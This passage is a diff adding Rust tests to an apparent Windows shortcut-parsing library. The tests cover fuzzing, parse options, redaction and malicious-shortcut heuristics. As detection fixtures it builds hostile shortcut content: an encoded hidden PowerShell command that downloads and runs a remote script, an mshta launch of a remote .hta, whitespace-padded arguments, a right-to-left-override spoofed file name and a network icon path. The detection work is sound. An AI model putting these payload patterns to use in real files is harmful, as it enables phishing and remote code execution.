@@ -1,10 +1,14 @@
+#![allow(clippy::redundant_static_lifetimes, clippy::zero_prefixed_literal)]
+
 const TEST_FILE_NAME: &'static str = "tests/test.lnk";
 const TEST_BLANK_FILE_NAME: &'static str = "tests/blank.txt";
 
 use chrono::NaiveDate;
+use lnk::testing::{self, LinkFixture, LinkInfoFixture};
 use lnk::*;
 #[allow(unused)]
 use log::{debug, error, info, trace, warn};
+use std::io::Cursor;
 
 #[test]
 fn test_lnk_header() {
@@ -80,3 +84,3207 @@ fn test_no_panic_reading_other_filetypes() {
     // Shouldn't have panicked by now!
     assert!(res.is_err());
 }
+
+/// Parse many randomly mutated copies of the test file, as a fuzzer would,
+/// checking that none of them panics.
+#[test]
+fn test_no_panic_on_mutated_input() {
+    let original = std::fs::read(TEST_FILE_NAME).unwrap();
+    let strict = ParseOptions {
+        strict: true,
+        ..Default::default()
+    };
+    // xorshift64, so that any failure can be reproduced
+    let mut state = 0x2545_f491_4f6c_dd1du64;
+    let mut next = move |bound: usize| {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        (state % bound as u64) as usize
+    };
+    for _ in 0..2_000 {
+        let mut data = original.clone();
+        for _ in 0..1 + next(8) {
+            let at = next(data.len() - 4);
+            match next(5) {
+                0 => data[at] = next(256) as u8,
+                1 => data[at] ^= 1 << next(8),
+                2 => {
+                    let value = [0, 1, 0x14, 0x4c, 0xffff, 0x7fff_ffff, u32::MAX][next(7)];
+                    data[at..at + 4].copy_from_slice(&value.to_le_bytes());
+                }
+                3 if data.len() >= 367 => {
+                    // Reinterpret the TrackerDataBlock as another block
+                    let signature = 0xa000_0001 + next(11) as u32;
+                    data[363..367].copy_from_slice(&signature.to_le_bytes());
+                }
+                _ => data.truncate(at.max(0x4c)),
+            }
+        }
+        if let Ok((shortcut, _)) = ShellLink::from_slice(&data) {
+            shortcut.validate_offsets();
+        }
+        let _ = ShellLink::from_slice_with_options(&data, &strict);
+        let _ = carve(Cursor::new(&data)).count();
+        let _ = ExtentMap::from_slice(&data);
+    }
+
+    // The VolumeIDOffset and CommonNetworkRelativeLinkOffset pointing into
+    // the last bytes of the LinkInfo
+    for (field, offset) in [(0xc, 0x3a), (0xc, 0x3b), (0x14, 0x39)] {
+        let mut data = original.clone();
+        data[0x10b + field..0x10b + field + 4].copy_from_slice(&(offset as u32).to_le_bytes());
+        if field == 0x14 {
+            data[0x10b + 8] |= 2;
+        }
+        let _ = ExtentMap::from_slice(&data);
+        let _ = ShellLink::from_slice(&data);
+    }
+}
+
+#[test]
+fn test_not_a_shell_link() {
+    let _ = pretty_env_logger::try_init();
+
+    assert!(matches!(
+        ShellLink::open(TEST_BLANK_FILE_NAME),
+        Err(Error::NotAShellLinkError)
+    ));
+
+    let data = std::fs::read(TEST_FILE_NAME).unwrap();
+    assert!(ShellLinkHeader::has_signature(&data[..20]));
+    assert!(!ShellLinkHeader::has_signature(&data[..19]));
+
+    let mut bad_size = data.clone();
+    bad_size[0] = 0x4d;
+    assert!(!ShellLinkHeader::has_signature(&bad_size));
+    assert!(matches!(
+        ShellLink::from_reader(Cursor::new(bad_size)),
+        Err(Error::NotAShellLinkError)
+    ));
+
+    let mut bad_clsid = data;
+    bad_clsid[19] ^= 0xff;
+    assert!(!ShellLinkHeader::has_signature(&bad_clsid));
+    assert!(matches!(
+        ShellLink::from_slice(&bad_clsid),
+        Err(Error::NotAShellLinkError)
+    ));
+}
+
+#[test]
+fn test_string_length_limit() {
+    let _ = pretty_env_logger::try_init();
+
+    let options = ParseOptions {
+        max_string_len: 4,
+        ..Default::default()
+    };
+    let res = ShellLink::open_with_options(TEST_FILE_NAME, &options);
+    assert!(
+        matches!(res, Err(Error::StringTooLong(4))),
+        "Strings longer than the limit should be rejected"
+    );
+}
+
+#[test]
+fn test_parse_options() {
+    let _ = pretty_env_logger::try_init();
+
+    let patched = |patch: &dyn Fn(&mut Vec<u8>)| {
+        let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+        patch(&mut data);
+        Cursor::new(data)
+    };
+    let strict = ParseOptions {
+        strict: true,
+        ..Default::default()
+    };
+
+    assert!(ShellLink::open_with_options(TEST_FILE_NAME, &strict).is_ok());
+
+    let reserved = patched(&|data| data[68..72].copy_from_slice(&1u32.to_le_bytes()));
+    assert!(ShellLink::from_reader(reserved.clone()).is_ok());
+    assert!(matches!(
+        ShellLink::from_reader_with_options(reserved, &strict),
+        Err(Error::NonConformant { .. })
+    ));
+
+    // Give the TrackerDataBlock an unknown signature.
+    let bad_block = patched(&|data| data[363..367].copy_from_slice(&0xa000_00ffu32.to_le_bytes()));
+    let shortcut = ShellLink::from_reader(bad_block.clone()).unwrap();
+    assert!(shortcut.extra_data().is_empty());
+    let no_recovery = ParseOptions {
+        recover_extra_data: false,
+        ..Default::default()
+    };
+    assert!(matches!(
+        ShellLink::from_reader_with_options(bad_block, &no_recovery),
+        Err(Error::UnexpectedValue {
+            structure: "ExtraData",
+            offset: 363,
+            field: "BlockSignature",
+            ..
+        })
+    ));
+}
+
+#[test]
+fn test_from_reader() {
+    let _ = pretty_env_logger::try_init();
+
+    let file = std::fs::read(TEST_FILE_NAME).unwrap();
+    let mut data = b"prefix".to_vec();
+    data.extend_from_slice(&file);
+    data.extend_from_slice(b"suffix");
+    let mut reader = Cursor::new(data);
+    reader.set_position(6);
+
+    let shortcut = ShellLink::from_reader(&mut reader).unwrap();
+    assert_eq!(shortcut.relative_path(), &Some(r".\a.txt".to_string()));
+    assert_eq!(reader.position(), 6 + file.len() as u64);
+}
+
+#[test]
+fn test_parse_at() {
+    let file = std::fs::read(TEST_FILE_NAME).unwrap();
+    let mut data = vec![0xcc; 0x200];
+    data.extend_from_slice(&file);
+    data.extend_from_slice(b"suffix");
+    let mut reader = Cursor::new(data);
+
+    let options = ParseOptions::default();
+    let (shortcut, consumed) = ShellLink::parse_at(&mut reader, 0x200, &options).unwrap();
+    assert_eq!(shortcut.relative_path(), &Some(r".\a.txt".to_string()));
+    assert_eq!(consumed, file.len());
+    assert_eq!(reader.position(), 0x200 + file.len() as u64);
+    assert!(matches!(
+        ShellLink::parse_at(&mut reader, 0x100, &options),
+        Err(Error::NotAShellLinkError)
+    ));
+
+    // A container much larger than the maximum input size
+    let mut data = vec![0; 100];
+    data.extend_from_slice(&file);
+    data.resize(data.len() + 17 * 1024 * 1024, 0);
+    let mut reader = Cursor::new(data);
+    let (shortcut, consumed) = ShellLink::parse_at(&mut reader, 100, &options).unwrap();
+    assert_eq!(shortcut.relative_path(), &Some(r".\a.txt".to_string()));
+    assert_eq!(consumed, file.len());
+    reader.set_position(100);
+    assert!(ShellLink::from_reader(&mut reader).is_ok());
+    assert_eq!(reader.position(), 100 + file.len() as u64);
+}
+
+#[cfg(feature = "memmap2")]
+#[test]
+fn test_open_mmap() {
+    let _ = pretty_env_logger::try_init();
+
+    let shortcut = unsafe { ShellLink::open_mmap(TEST_FILE_NAME) }.unwrap();
+    let read = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(shortcut.relative_path(), read.relative_path());
+    assert_eq!(shortcut.trailing_data(), None);
+    assert!(matches!(
+        unsafe { ShellLink::open_mmap(TEST_BLANK_FILE_NAME) },
+        Err(Error::NotAShellLinkError)
+    ));
+}
+
+#[cfg(feature = "tokio")]
+#[test]
+fn test_open_async() {
+    let _ = pretty_env_logger::try_init();
+
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .build()
+        .unwrap();
+    let shortcut = runtime
+        .block_on(ShellLink::open_async(TEST_FILE_NAME))
+        .unwrap();
+    let read = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(shortcut.relative_path(), read.relative_path());
+    assert_eq!(shortcut.arguments(), read.arguments());
+    assert!(matches!(
+        runtime.block_on(ShellLink::open_async(TEST_BLANK_FILE_NAME)),
+        Err(Error::NotAShellLinkError)
+    ));
+}
+
+#[cfg(feature = "rayon")]
+#[test]
+fn test_parse_dir() {
+    use rayon::prelude::*;
+
+    let _ = pretty_env_logger::try_init();
+
+    let results: Vec<_> = parse_dir("tests", &ParseOptions::default()).collect();
+    assert_eq!(results.len(), 1);
+    let (path, result) = &results[0];
+    assert_eq!(path, &std::path::Path::new("tests").join("test.lnk"));
+    assert!(result.is_ok());
+
+    let results: Vec<_> = parse_dir("does-not-exist", &ParseOptions::default()).collect();
+    assert!(matches!(results[..], [(_, Err(Error::IoError(_)))]));
+}
+
+#[test]
+fn test_open_many() {
+    let missing = std::path::Path::new("tests").join("missing.lnk");
+    let paths = [TEST_FILE_NAME, "README.md", TEST_FILE_NAME];
+    let links =
+        ShellLink::open_many(paths, &ParseOptions::default(), ErrorPolicy::Collect).unwrap();
+    assert_eq!(links.len(), 2);
+    assert!(links[std::path::Path::new(TEST_FILE_NAME)].is_ok());
+    assert!(matches!(
+        links[std::path::Path::new("README.md")],
+        Err(Error::NotAShellLinkError)
+    ));
+
+    let paths = [std::path::PathBuf::from(TEST_FILE_NAME), missing.clone()];
+    let (path, error) =
+        ShellLink::open_many(&paths, &ParseOptions::default(), ErrorPolicy::FailFast).unwrap_err();
+    assert_eq!(path, missing);
+    assert!(matches!(error, Error::IoError(_)));
+
+    let links =
+        ShellLink::open_many(&paths[..1], &ParseOptions::default(), ErrorPolicy::FailFast).unwrap();
+    assert!(links.values().all(Result::is_ok));
+}
+
+#[test]
+fn test_recent_items_in() {
+    let app_data = std::env::temp_dir().join(format!("lnk-recent-{}", std::process::id()));
+    let recent = app_data.join("Microsoft").join("Windows").join("Recent");
+    std::fs::create_dir_all(recent.join("AutomaticDestinations")).unwrap();
+    std::fs::copy(TEST_FILE_NAME, recent.join("a.txt.lnk")).unwrap();
+    std::fs::copy(
+        TEST_FILE_NAME,
+        recent.join("AutomaticDestinations").join("b.lnk"),
+    )
+    .unwrap();
+    std::fs::write(recent.join("broken.LNK"), b"not a shell link").unwrap();
+    std::fs::write(recent.join("desktop.ini"), b"").unwrap();
+
+    let items = recent_items_in(&app_data, &ParseOptions::default());
+    std::fs::remove_dir_all(&app_data).unwrap();
+    let names: Vec<_> = items.keys().map(|path| path.file_name().unwrap()).collect();
+    assert_eq!(names, ["a.txt.lnk", "broken.LNK"]);
+    let link = items[&recent.join("a.txt.lnk")].as_ref().unwrap();
+    assert_eq!(link.relative_path().as_deref(), Some(r".\a.txt"));
+    assert!(matches!(
+        items[&recent.join("broken.LNK")],
+        Err(Error::NotAShellLinkError)
+    ));
+}
+
+#[test]
+fn test_from_slice() {
+    use std::convert::TryFrom;
+
+    let _ = pretty_env_logger::try_init();
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    let len = data.len();
+    data.extend_from_slice(b"trailing");
+
+    let (shortcut, consumed) = ShellLink::from_slice(&data).unwrap();
+    assert_eq!(consumed, len);
+    assert_eq!(shortcut.working_dir(), &Some(r"C:\test".to_string()));
+
+    let shortcut = ShellLink::try_from(&data[..]).unwrap();
+    assert_eq!(shortcut.working_dir(), &Some(r"C:\test".to_string()));
+
+    assert!(matches!(
+        ShellLink::from_slice(b"not a shell link"),
+        Err(Error::NotAShellLinkError)
+    ));
+}
+
+#[test]
+fn test_trailing_data() {
+    let _ = pretty_env_logger::try_init();
+
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert!(shortcut.trailing_data().is_none());
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    let len = data.len();
+    data.extend_from_slice(b"payload");
+
+    let (shortcut, consumed) = ShellLink::from_slice(&data).unwrap();
+    assert_eq!(consumed, len);
+    let trailing = shortcut.trailing_data().unwrap();
+    assert_eq!(trailing.offset(), len);
+    assert_eq!(trailing.size(), 7);
+    assert_eq!(trailing.data(), None);
+
+    let options = ParseOptions {
+        keep_trailing_data: true,
+        ..Default::default()
+    };
+    let (shortcut, _) = ShellLink::from_slice_with_options(&data, &options).unwrap();
+    assert_eq!(
+        shortcut.trailing_data().unwrap().data(),
+        Some(&b"payload"[..])
+    );
+}
+
+#[test]
+fn test_parse_warnings() {
+    let _ = pretty_env_logger::try_init();
+
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert!(shortcut.warnings().is_empty());
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[68..72].copy_from_slice(&1u32.to_le_bytes());
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    assert_eq!(shortcut.warnings().len(), 1);
+    assert_eq!(shortcut.warnings()[0].structure(), "ShellLinkHeader");
+
+    // Cut the file off part way through the working directory.
+    let (shortcut, consumed) = ShellLink::from_slice(&data[..351]).unwrap();
+    assert_eq!(consumed, 351);
+    assert_eq!(shortcut.relative_path(), &Some(r".\a.txt".to_string()));
+    assert_eq!(shortcut.working_dir(), &Some(r"C:\".to_string()));
+    let structures: Vec<&str> = shortcut.warnings().iter().map(|w| w.structure()).collect();
+    assert_eq!(structures, ["ShellLinkHeader", "StringData", "ExtraData"]);
+}
+
+#[test]
+fn test_block_boundaries() {
+    let _ = pretty_env_logger::try_init();
+
+    let original = std::fs::read(TEST_FILE_NAME).unwrap();
+    let with_block = |block: &[u8]| {
+        let mut data = original[..359].to_vec();
+        data.extend_from_slice(block);
+        data.extend_from_slice(&original[359..]);
+        data
+    };
+
+    // A TrackerDataBlock too short for its fields is skipped on its own.
+    let mut short = Vec::new();
+    short.extend_from_slice(&0x20u32.to_le_bytes());
+    short.extend_from_slice(&0xa000_0003u32.to_le_bytes());
+    short.extend_from_slice(&[0x41; 24]);
+    let data = with_block(&short);
+    let (shortcut, consumed) = ShellLink::from_slice(&data).unwrap();
+    assert_eq!(consumed, data.len());
+    assert_eq!(shortcut.extra_data().len(), 1);
+    assert!(matches!(
+        shortcut.extra_data()[0],
+        ExtraData::TrackerProps(_)
+    ));
+    assert_eq!(shortcut.warnings().len(), 1);
+    assert_eq!(shortcut.warnings()[0].offset(), 359);
+
+    // A block longer than it should be is read up to its declared size.
+    let mut long = original[359..455].to_vec();
+    long[..4].copy_from_slice(&0x70u32.to_le_bytes());
+    long.extend_from_slice(&[0x41; 16]);
+    let data = with_block(&long);
+    let (shortcut, consumed) = ShellLink::from_slice(&data).unwrap();
+    assert_eq!(consumed, data.len());
+    assert_eq!(shortcut.extra_data().len(), 2);
+    assert_eq!(shortcut.warnings().len(), 1);
+}
+
+#[test]
+fn test_environment_block_strings() {
+    let _ = pretty_env_logger::try_init();
+
+    let target = r"%windir%\system32\notepad.exe";
+    let mut block = Vec::new();
+    block.extend_from_slice(&0x314u32.to_le_bytes());
+    block.extend_from_slice(&0xa000_0001u32.to_le_bytes());
+    let mut ansi = target.as_bytes().to_vec();
+    ansi.resize(260, 0);
+    block.extend_from_slice(&ansi);
+    let mut unicode: Vec<u8> = target.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    unicode.resize(520, 0);
+    block.extend_from_slice(&unicode);
+
+    let ExtraData::EnvironmentProps(props) = ExtraData::try_from(&block[..]).unwrap() else {
+        panic!("expected an EnvironmentVariableDataBlock");
+    };
+    assert_eq!(props.target_ansi(), target);
+    assert_eq!(props.target_unicode().as_deref(), Some(target));
+
+    block[268..].fill(0);
+    let ExtraData::EnvironmentProps(props) = ExtraData::try_from(&block[..]).unwrap() else {
+        panic!("expected an EnvironmentVariableDataBlock");
+    };
+    assert_eq!(props.target_unicode(), &None);
+}
+
+#[test]
+fn test_decoded_strings_fit() {
+    let _ = pretty_env_logger::try_init();
+
+    // Decoders reserve room for the worst case, which should not be kept.
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let relative_path = shortcut.relative_path().as_ref().unwrap();
+    assert_eq!(relative_path.capacity(), relative_path.len());
+    let working_dir = shortcut.working_dir().as_ref().unwrap();
+    assert_eq!(working_dir.capacity(), working_dir.len());
+}
+
+#[test]
+fn test_analyze() {
+    let _ = pretty_env_logger::try_init();
+
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(shortcut.analyze(), []);
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap()[..0x4c].to_vec();
+    let flags = LinkFlags::HAS_RELATIVE_PATH
+        | LinkFlags::HAS_ARGUMENTS
+        | LinkFlags::HAS_ICON_LOCATION
+        | LinkFlags::IS_UNICODE
+        | LinkFlags::HAS_EXP_STRING;
+    data[0x14..0x18].copy_from_slice(&flags.bits().to_le_bytes());
+    data[0x3c..0x40].copy_from_slice(&7u32.to_le_bytes());
+    let arguments = format!("{}-c calc", " ".repeat(200));
+    for string in [
+        r"..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        &arguments,
+        r"C:\Users\Public\invoice.pdf",
+    ] {
+        let units: Vec<u16> = string.encode_utf16().collect();
+        data.extend_from_slice(&(units.len() as u16).to_le_bytes());
+        data.extend(units.iter().flat_map(|unit| unit.to_le_bytes()));
+    }
+    data.extend_from_slice(&0x314u32.to_le_bytes());
+    data.extend_from_slice(&0xa000_0001u32.to_le_bytes());
+    let mut ansi = br"C:\Windows\notepad.exe".to_vec();
+    ansi.resize(260, 0);
+    data.extend_from_slice(&ansi);
+    let mut unicode: Vec<u8> = r"C:\Users\Public\run.exe"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    unicode.resize(520, 0);
+    data.extend_from_slice(&unicode);
+    data.extend_from_slice(&[0; 4]);
+    data.extend_from_slice(b"payload");
+
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    let findings = shortcut.analyze();
+    let mut indicators: Vec<Indicator> = findings.iter().map(|finding| finding.indicator).collect();
+    indicators.sort_by_key(|indicator| format!("{:?}", indicator));
+    assert_eq!(
+        indicators,
+        [
+            Indicator::HiddenInterpreter,
+            Indicator::IconMismatch,
+            Indicator::StringMismatch,
+            Indicator::TrailingData,
+            Indicator::WhitespacePadding,
+        ]
+    );
+    assert_eq!(findings[0].severity, Severity::High);
+    assert!(findings
+        .windows(2)
+        .all(|pair| pair[0].severity >= pair[1].severity));
+    let padding = findings
+        .iter()
+        .find(|finding| finding.indicator == Indicator::WhitespacePadding)
+        .unwrap();
+    assert_eq!(
+        padding.to_string(),
+        "High: the arguments hold a run of 200 whitespace characters"
+    );
+}
+
+#[test]
+fn test_unicode_spoofing() {
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap()[..0x4c].to_vec();
+    let flags = LinkFlags::HAS_NAME
+        | LinkFlags::HAS_RELATIVE_PATH
+        | LinkFlags::HAS_ARGUMENTS
+        | LinkFlags::IS_UNICODE;
+    data[0x14..0x18].copy_from_slice(&flags.bits().to_le_bytes());
+    for string in [
+        "invoice\u{202e}fdp.exe",
+        ".\\\u{0440}ayroll.exe",
+        "/c del\u{200b}ete",
+    ] {
+        let units: Vec<u16> = string.encode_utf16().collect();
+        data.extend_from_slice(&(units.len() as u16).to_le_bytes());
+        data.extend(units.iter().flat_map(|unit| unit.to_le_bytes()));
+    }
+    data.extend_from_slice(&[0; 4]);
+
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    let findings = shortcut.analyze();
+    let indicators: Vec<Indicator> = findings.iter().map(|finding| finding.indicator).collect();
+    assert_eq!(
+        indicators,
+        [
+            Indicator::BidiControl,
+            Indicator::InvisibleCharacter,
+            Indicator::MixedScript,
+        ]
+    );
+    assert_eq!(
+        findings[0].to_string(),
+        r#"High: the name "invoice\u{202e}fdp.exe" holds U+202E RIGHT-TO-LEFT OVERRIDE"#
+    );
+    assert!(findings[2].description.contains("\"\u{0440}ayroll\""));
+}
+
+#[test]
+fn test_icon_hosts() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(shortcut.icon_hosts(), Vec::<String>::new());
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap()[..0x4c].to_vec();
+    let flags = LinkFlags::HAS_ICON_LOCATION | LinkFlags::IS_UNICODE | LinkFlags::HAS_EXP_ICON;
+    data[0x14..0x18].copy_from_slice(&flags.bits().to_le_bytes());
+    let units: Vec<u16> = r"\\10.0.0.5\share\icon.ico".encode_utf16().collect();
+    data.extend_from_slice(&(units.len() as u16).to_le_bytes());
+    data.extend(units.iter().flat_map(|unit| unit.to_le_bytes()));
+    data.extend_from_slice(&0x314u32.to_le_bytes());
+    data.extend_from_slice(&0xa000_0007u32.to_le_bytes());
+    data.extend_from_slice(&[0; 260]);
+    let mut unicode: Vec<u8> = r"\\?\UNC\files.example.com\icons\doc.ico"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    unicode.resize(520, 0);
+    data.extend_from_slice(&unicode);
+    data.extend_from_slice(&[0; 4]);
+
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    assert_eq!(shortcut.icon_hosts(), ["10.0.0.5", "files.example.com"]);
+    let findings = shortcut.analyze();
+    assert_eq!(findings.len(), 1);
+    assert_eq!(findings[0].indicator, Indicator::NetworkIcon);
+    assert_eq!(findings[0].severity, Severity::High);
+    assert!(findings[0].description.ends_with("to \"10.0.0.5\""));
+}
+
+#[test]
+fn test_icon() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(shortcut.icon(), None);
+
+    let link = |flags: LinkFlags| {
+        let mut data = std::fs::read(TEST_FILE_NAME).unwrap()[..0x4c].to_vec();
+        data[0x14..0x18].copy_from_slice(&flags.bits().to_le_bytes());
+        data[0x38..0x3c].copy_from_slice(&(-3i32).to_le_bytes());
+        let units: Vec<u16> = r"C:\Windows\System32\shell32.dll".encode_utf16().collect();
+        data.extend_from_slice(&(units.len() as u16).to_le_bytes());
+        data.extend(units.iter().flat_map(|unit| unit.to_le_bytes()));
+        data.extend_from_slice(&0x314u32.to_le_bytes());
+        data.extend_from_slice(&0xa000_0007u32.to_le_bytes());
+        let mut ansi = b"%SystemRoot%\\System32\\imageres.dll".to_vec();
+        ansi.resize(260, 0);
+        data.extend_from_slice(&ansi);
+        data.extend_from_slice(&[0; 520]);
+        data.extend_from_slice(&[0; 4]);
+        ShellLink::from_slice(&data).unwrap().0
+    };
+    let flags = LinkFlags::HAS_ICON_LOCATION | LinkFlags::IS_UNICODE;
+    assert_eq!(
+        link(flags | LinkFlags::HAS_EXP_ICON).icon(),
+        Some((r"%SystemRoot%\System32\imageres.dll".to_string(), -3))
+    );
+    assert_eq!(
+        link(flags).icon(),
+        Some((r"C:\Windows\System32\shell32.dll".to_string(), -3))
+    );
+}
+
+#[cfg(feature = "heuristics")]
+#[test]
+fn test_command_line_threats() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(shortcut.command_line_threats(), []);
+
+    let link = |target: &str, arguments: &str| {
+        let mut data = std::fs::read(TEST_FILE_NAME).unwrap()[..0x4c].to_vec();
+        let flags = LinkFlags::HAS_RELATIVE_PATH | LinkFlags::HAS_ARGUMENTS | LinkFlags::IS_UNICODE;
+        data[0x14..0x18].copy_from_slice(&flags.bits().to_le_bytes());
+        for string in [target, arguments] {
+            let units: Vec<u16> = string.encode_utf16().collect();
+            data.extend_from_slice(&(units.len() as u16).to_le_bytes());
+            data.extend(units.iter().flat_map(|unit| unit.to_le_bytes()));
+        }
+        data.extend_from_slice(&[0; 4]);
+        ShellLink::from_slice(&data).unwrap().0
+    };
+
+    // "IEX (iwr http://example.com/a.ps1)" as UTF-16, in base64.
+    let shortcut = link(
+        r"..\WindowsPowerShell\v1.0\powershell.exe",
+        "-NoP -W Hidden -Enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBhAC4AcABzADEAKQA=",
+    );
+    let findings = shortcut.command_line_threats();
+    assert_eq!(findings.len(), 1);
+    assert_eq!(findings[0].indicator, Indicator::EncodedPowerShell);
+    assert!(findings[0]
+        .description
+        .ends_with("decodes to \"IEX (iwr http://example.com/a.ps1)\""));
+
+    let shortcut = link(
+        r"C:\Windows\System32\mshta.exe",
+        "https://example.com/x.hta Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGZvb2JhcmJhenF1eDEyMzQ1Njc4OTBmb29iYXI=",
+    );
+    let indicators: Vec<Indicator> = shortcut
+        .analyze()
+        .iter()
+        .map(|finding| finding.indicator)
+        .collect();
+    assert_eq!(
+        indicators,
+        [
+            Indicator::ProxyExecution,
+            Indicator::EmbeddedUrl,
+            Indicator::Base64Blob,
+        ]
+    );
+}
+
+#[test]
+fn test_timestamp_anomalies() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(shortcut.timestamp_anomalies(), []);
+
+    let time = |y, m, d| {
+        FileTime::from(
+            NaiveDate::from_ymd_opt(y, m, d)
+                .unwrap()
+                .and_hms_opt(0, 0, 0)
+                .unwrap(),
+        )
+        .raw()
+    };
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[0x1c..0x24].copy_from_slice(&time(2009, 1, 1).to_le_bytes());
+    data[0x24..0x2c].fill(0);
+    data[0x2c..0x34].copy_from_slice(&time(2008, 12, 1).to_le_bytes());
+    data[0x34..0x38].copy_from_slice(&100u32.to_le_bytes());
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    let findings = shortcut.timestamp_anomalies();
+    let indicators: Vec<Indicator> = findings.iter().map(|finding| finding.indicator).collect();
+    assert_eq!(
+        indicators,
+        [
+            Indicator::CreationAfterWrite,
+            Indicator::ZeroedTimes,
+            Indicator::DroidTimeMismatch,
+        ]
+    );
+    assert_eq!(
+        findings[1].description,
+        "the access times are zero, although the target is 100 bytes"
+    );
+    assert!(findings[2].description.contains("112 days before"));
+    assert!(shortcut
+        .analyze()
+        .iter()
+        .any(|finding| finding.indicator == Indicator::DroidTimeMismatch));
+}
+
+#[test]
+fn test_redact() {
+    let _ = pretty_env_logger::try_init();
+
+    let options = RedactOptions::default();
+    let data = std::fs::read(TEST_FILE_NAME).unwrap();
+    let mut shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    shortcut.redact(&options);
+    let redacted = redact(&data, &options).unwrap();
+    assert_eq!(redacted.len(), data.len());
+    let (parsed, _) = ShellLink::from_slice(&redacted).unwrap();
+    for link in [&shortcut, &parsed] {
+        let volume = link
+            .link_info()
+            .as_ref()
+            .unwrap()
+            .volume_id()
+            .as_ref()
+            .unwrap();
+        assert_eq!(*volume.drive_serial_number(), 0);
+        assert_eq!(volume.volume_label(), "");
+        let ExtraData::TrackerProps(tracker) = &link.extra_data()[0] else {
+            panic!("expected a TrackerDataBlock");
+        };
+        assert_eq!(tracker.machine_id(), "");
+        assert_eq!(tracker.droid(), &[Guid::NIL; 2]);
+        assert_eq!(link.working_dir().as_deref(), Some(r"C:\test"));
+    }
+
+    let keep_machine = RedactOptions {
+        machine_id: false,
+        ..Default::default()
+    };
+    let (parsed, _) = ShellLink::from_slice(&redact(&data, &keep_machine).unwrap()).unwrap();
+    let ExtraData::TrackerProps(tracker) = &parsed.extra_data()[0] else {
+        panic!("expected a TrackerDataBlock");
+    };
+    assert_eq!(tracker.machine_id(), "chris-xps");
+
+    // User names are replaced wherever they appear, as are SIDs.
+    let mut data = data[..0x4c].to_vec();
+    let flags = LinkFlags::HAS_RELATIVE_PATH | LinkFlags::HAS_ARGUMENTS | LinkFlags::IS_UNICODE;
+    data[0x14..0x18].copy_from_slice(&flags.bits().to_le_bytes());
+    for string in [r"..\..\Users\Alice\Desktop\a.txt", "--user alice"] {
+        let units: Vec<u16> = string.encode_utf16().collect();
+        data.extend_from_slice(&(units.len() as u16).to_le_bytes());
+        data.extend(units.iter().flat_map(|unit| unit.to_le_bytes()));
+    }
+    let store: Vec<u8> = "\0S-1-5-21-1004-500 alice"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    data.extend_from_slice(&(store.len() as u32 + 8).to_le_bytes());
+    data.extend_from_slice(&0xa000_0009u32.to_le_bytes());
+    data.extend_from_slice(&store);
+    data.extend_from_slice(&[0; 4]);
+
+    let (mut shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    shortcut.redact(&options);
+    let (parsed, _) = ShellLink::from_slice(&redact(&data, &options).unwrap()).unwrap();
+    let expected: Vec<u8> = "\0S-1-0-00-0000-000 XXXXX"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    for link in [&shortcut, &parsed] {
+        assert_eq!(
+            link.relative_path().as_deref(),
+            Some(r"..\..\Users\XXXXX\Desktop\a.txt")
+        );
+        assert_eq!(link.arguments().as_deref(), Some("--user XXXXX"));
+        let ExtraData::PropertyStoreProps(props) = &link.extra_data()[0] else {
+            panic!("expected a PropertyStoreDataBlock");
+        };
+        assert_eq!(props.property_store(), &expected);
+    }
+}
+
+#[test]
+fn test_droid_info() {
+    use lnk::extradata::tracker_data::MacAddress;
+
+    let guid: Guid = "{C232AB00-9414-11EC-B3C8-9F6BDECED846}".parse().unwrap();
+    assert_eq!(guid.clock_sequence(), Some(0x33c8));
+    assert_eq!(guid.node(), Some([0x9f, 0x6b, 0xde, 0xce, 0xd8, 0x46]));
+    assert_eq!(Guid::NIL.node(), None);
+
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let tracker = shortcut
+        .extra_data()
+        .iter()
+        .find_map(|block| match block {
+            ExtraData::TrackerProps(tracker) => Some(tracker),
+            _ => None,
+        })
+        .unwrap();
+    let info = tracker.droid_info().unwrap();
+    assert_eq!(
+        info.mac_address(),
+        MacAddress::new([0x00, 0x13, 0x72, 0x16, 0x87, 0x4a])
+    );
+    assert_eq!(info.mac_address().to_string(), "00:13:72:16:87:4A");
+    assert!(!info.mac_address().is_multicast());
+    assert_eq!(info.clock_sequence(), 0x1499);
+    assert_eq!(
+        info.timestamp().datetime().date(),
